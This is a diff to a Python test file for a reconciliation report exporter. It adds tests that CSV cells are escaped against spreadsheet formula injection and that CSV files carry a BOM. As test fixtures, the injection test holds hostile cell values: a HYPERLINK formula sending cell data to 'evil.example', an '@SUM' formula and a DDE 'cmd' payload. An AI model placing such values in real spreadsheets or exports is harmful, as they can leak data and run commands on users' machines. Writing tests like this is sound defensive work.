@@ -192,6 +192,35 @@ def test_csv_quotes_embedded_quotes_and_commas(result: ReconcileResult) -> None:
     assert '"[{""sku"":""A1"",""amount"":""100.00""}]"' in text
 
 
+def test_csv_cells_from_other_systems_cannot_run_as_formulas() -> None:
+    hostile = Discrepancy(
+        kind="amount_mismatch",
+        store='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        business_date=date(2026, 11, 2),
+        refs={"evotor": "@SUM(1+1)"},
+        expected="-10.00",
+        actual=None,
+        delta=None,
+        fix=_manual("-cmd|' /C calc'!A0"),
+    )
+    found = ReconcileResult(date(2026, 11, 1), date(2026, 11, 7), [], [hostile])
+    row = _csv_rows(render(found, "csv"))[0]
+    assert row["store"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["refs"] == "evotor=@SUM(1+1)", "starts with the system's name: not a formula"
+    assert row["fix_description"] == "'-cmd|' /C calc'!A0"
+    assert row["expected"] == "-10.00", "a negative amount stays a number"
+
+
+def test_csv_file_starts_with_a_bom_for_excel_and_stdout_does_not(
+    result: ReconcileResult, tmp_path: Path
+) -> None:
+    path = write_report(result, "csv", tmp_path / "report.csv")
+    data = path.read_bytes()
+    assert data.startswith("\ufeff".encode())
+    assert data.decode("utf-8-sig") == render(result, "csv")
+    assert not render(result, "csv").startswith("\ufeff")
+
+
 def test_format_refs_sorts_by_system() -> None:
     assert format_refs({"onec": "b", "evotor": "a", "crm": "c"}) == "crm=c;evotor=a;onec=b"
     assert format_refs({}) == ""
@@ -432,7 +461,8 @@ def test_write_report_writes_exactly_what_render_returns(
     result: ReconcileResult, tmp_path: Path, fmt: str
 ) -> None:
     path = write_report(result, fmt, tmp_path / "out" / f"report.{fmt}")  # type: ignore[arg-type]
-    assert path.read_bytes() == render(result, fmt).encode("utf-8")  # type: ignore[arg-type]
+    bom = "\ufeff" if fmt == "csv" else ""
+    assert path.read_bytes() == (bom + render(result, fmt)).encode("utf-8")  # type: ignore[arg-type]
 
 
 def test_write_report_names_the_file_it_cannot_write(result: ReconcileResult, tmp_path: Path) -> None:
